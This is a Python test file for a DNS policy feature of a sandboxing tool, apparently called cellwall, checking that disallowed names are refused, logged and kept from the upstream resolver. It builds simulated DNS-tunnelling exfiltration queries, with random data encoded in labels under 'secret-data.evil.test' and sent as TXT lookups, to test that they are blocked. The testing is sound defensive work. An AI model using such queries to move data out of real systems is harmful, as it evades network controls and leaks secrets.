"""Query names as a channel the policy controls (docs/dns.md, "Which names a cell may resolve"):
under default = "deny" a cell resolves only the names its allow rules name; every other query
is answered REFUSED by cellwall and never reaches the environment's resolver, let alone the
upstream server (the test host's dnsmasq, where these tests capture). resolve = "any" restores
the old behaviour."""
import json
import secrets
import time
from pathlib import Path

from conftest import GATEWAY_IP, NAMES, TESTHOST_IP

DNSQ = str(Path(__file__).with_name("dnsq.py"))

POLICY = """default = "deny"
[[allow]]
proto = "tcp"
hosts = "api.example.test"
ports = 8080
"""

# Everything DNS on the upstream's link, tagged or not.
DNS_BPF = "(udp port 53 or tcp port 53) or (vlan and (udp port 53 or tcp port 53))"


def exfil_name():
    """A name that carries data in its labels, as a tunnel over DNS would."""
    return f"{secrets.token_hex(12)}.secret-data.evil.test"


def queries(d, policy, app, names):
    """Runs a cell that resolves api.example.test with getent, asks for each of `names` over UDP
    (TXT, as DNS tunnels do) and once over TCP, then fetches http://api.example.test:8080/.
    Returns its output lines."""
    lines = ["getent hosts api.example.test || echo unresolved"]
    lines += [f"python3 {DNSQ} {GATEWAY_IP} {n} TXT || echo no-answer" for n in names]
    lines += [f"python3 {DNSQ} {GATEWAY_IP} {names[0]} A tcp || echo no-answer",
              "curl -s -o /dev/null --max-time 5 -w '%{http_code}\\n' http://api.example.test:8080/ || true"]
    r = d.run_cell(policy, ["sh", "-c", "; ".join(lines)], app=app)
    return [l for l in r.stdout.splitlines() if l.strip()]


def log_entries(d, app, want, timeout=10):
    """The app's log rows, once `want(rows)` holds (the log is written in batches)."""
    deadline = time.time() + timeout
    while True:
        out = d.cli("log", "--app", app, "--json", check=False).stdout
        rows = [json.loads(l) for l in out.splitlines() if l.strip()]
        if want(rows) or time.time() > deadline:
            return rows
        time.sleep(0.3)


def test_default_deny_resolves_only_what_its_rules_name(mdaemon, module_testhost):
    secret, label = "secret-data.evil.test", exfil_name()
    cap = module_testhost.capture(DNS_BPF)
    out = queries(mdaemon, POLICY, "resolve-rules", [secret, label])
    upstream = "\n".join(cap.lines())
    # The allowed name resolves and its connection works: the query went on, and its answer
    # was snooped as before.
    assert out[0].split() == [NAMES["api.example.test"], "api.example.test"], out
    # The others reached nobody: the upstream saw the allowed name and nothing else ...
    assert "api.example.test" in upstream, upstream
    assert "evil.test" not in upstream and label.split(".")[0] not in upstream, upstream
    # ... they were answered at once, REFUSED, and over TCP the connection was reset.
    assert out[1:4] == ["rcode 5", "rcode 5", "tcp reset"], out
    assert out[4] == "200", out
    # Refusals are logged like refused connections, with the name and why.
    rows = log_entries(mdaemon, "resolve-rules",
                       lambda rs: sum(r["reason"].startswith("dns_") for r in rs) >= 3)
    refused = [r for r in rows if r["reason"] == "dns_refused"]
    assert sorted(r["names"] for r in refused) == sorted([secret, label]), rows
    assert all(r["verdict"] == "reject" and r["remote_ip"] == GATEWAY_IP and r["remote_port"] == 53
               for r in refused), refused
    assert any(r["reason"] == "dns_tcp_refused" for r in rows), rows
    # No allowed query is logged: the connection it led to is.
    assert not any(r["reason"] == "dns_query" for r in rows), rows
    # explain says the same for a name.
    why = mdaemon.cli("rules", "explain", "--app", "resolve-rules", secret, "8080").stdout
    assert f"resolving {secret}: refused" in why and 'resolve = "rules", from default = "deny"' in why, why
    why = mdaemon.cli("rules", "explain", "--app", "resolve-rules", "api.example.test", "8080").stdout
    assert "resolving api.example.test: sent to the resolver, named by rule" in why, why


def test_resolve_any_sends_every_name_upstream(mdaemon, module_testhost):
    label = exfil_name()
    cap = module_testhost.capture(DNS_BPF)
    out = queries(mdaemon, POLICY.replace('default = "deny"\n', 'default = "deny"\nresolve = "any"\n'),
                  "resolve-any", [label])
    upstream = "\n".join(cap.lines())
    # The upstream refuses names it does not know, so the cell sees the same answer; but here
    # the name left the host (the channel the default closes), and TCP reaches the resolver.
    assert out[0].split() == [NAMES["api.example.test"], "api.example.test"], out
    assert out[1:3] == ["rcode 5", "rcode 5"], out
    assert label in upstream, upstream
    assert out[3] == "200", out


def test_changing_resolve_applies_to_running_cells(mdaemon):
    policy_any = POLICY.replace('default = "deny"\n', 'default = "deny"\nresolve = "any"\n')
    p, cell = mdaemon.start_cell(policy_any, ["sleep", "60"], app="resolve-live")
    try:
        ask = ["python3", DNSQ, GATEWAY_IP, "test.example", "A"]
        first = mdaemon.sh_in_cell(cell, ask).stdout.split()
        pf = Path(mdaemon.state, "resolve-live-rules.toml")
        pf.write_text(POLICY)  # resolve follows default = "deny": rules
        mdaemon.cli("rules", "import", "--app", "resolve-live", str(pf))
        deadline = time.time() + 5
        second = []
        while time.time() < deadline and second != ["rcode", "5"]:
            second = mdaemon.sh_in_cell(cell, ask).stdout.split()
            time.sleep(0.2)
        allowed = mdaemon.sh_in_cell(cell, ["python3", DNSQ, GATEWAY_IP, "api.example.test", "A"]).stdout.split()
    finally:
        p.terminate()
        p.wait(timeout=30)
    assert first == [TESTHOST_IP], first
    assert second == ["rcode", "5"], second
    assert allowed == [NAMES["api.example.test"]], allowed


def test_an_inspected_cell_is_checked_too(mdaemon, module_testhost):
    # Inspect mode sends every packet through the controller first; checked queries still go on
    # or get REFUSED without leaving (and answers are still learned: the connection by name works).
    label = exfil_name()
    p, cell = mdaemon.start_cell(POLICY, ["sleep", "60"], app="resolve-inspect", run_args=("--inspect",))
    try:
        ask = ["python3", DNSQ, GATEWAY_IP]
        cap = module_testhost.capture(DNS_BPF)
        allowed = mdaemon.sh_in_cell(cell, ask + ["api.example.test", "A"]).stdout.split()
        refused = mdaemon.sh_in_cell(cell, ask + [label, "TXT"]).stdout.split()
        upstream = "\n".join(cap.lines())
        # By address (this runs outside the cell's mount namespace, with the host's
        # resolv.conf): the name rule admits it because the cell learned the name above.
        fetched = mdaemon.sh_in_cell(cell, ["curl", "-s", "-o", "/dev/null", "--max-time", "5", "-w",
                                            "%{http_code}", f"http://{NAMES['api.example.test']}:8080/"]).stdout
    finally:
        p.terminate()
        p.wait(timeout=30)
    assert allowed == [NAMES["api.example.test"]], allowed
    assert refused == ["rcode", "5"], refused
    assert "evil.test" not in upstream, upstream
    assert fetched == "200", fetched
